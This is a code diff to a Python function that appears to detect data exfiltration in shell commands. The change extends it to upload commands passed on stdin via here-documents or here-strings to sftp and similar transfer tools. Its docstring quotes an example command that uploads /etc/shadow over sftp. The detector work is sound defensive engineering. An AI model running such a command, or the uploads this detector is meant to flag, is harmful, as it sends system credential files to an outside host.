@@ -244,8 +244,10 @@ def leaks(
     redirects: Sequence[Redirect],
     piped: bool,
     carried: frozenset[str] = frozenset(),
+    stdin_text: str | None = None,
 ) -> list[Leak]:
-    """The payloads a network program would send, or [] when it is no sink."""
+    """The payloads a network program would send, or [] when it is no sink. `stdin_text`: a
+    here-document or here-string it reads (`sftp -b - host <<< 'put /etc/shadow'`)."""
     if name not in NETWORK or (name == "openssl" and not any(w.value == "s_client" for w in args)):
         return []
     if name == "git":
@@ -273,6 +275,9 @@ def leaks(
         return [Leak(f"push to {urls[0]}", False)] if urls else []
     for f in _files_sent(name, args):
         found.append(Leak(f, classify_path(f) is not None))
+    if stdin_text and (name in _TRANSFER or name == "sftp"):  # its commands come on stdin
+        for m in _UPLOAD_VERB.finditer(stdin_text):
+            found.append(Leak(m.group(1), classify_path(m.group(1)) is not None))
     for i, w in enumerate(args):  # `-d @"$f"`: the file sent is only known at run time
         opt = w.value.split("=", 1)[0]
         nxt = args[i + 1] if i + 1 < len(args) else None
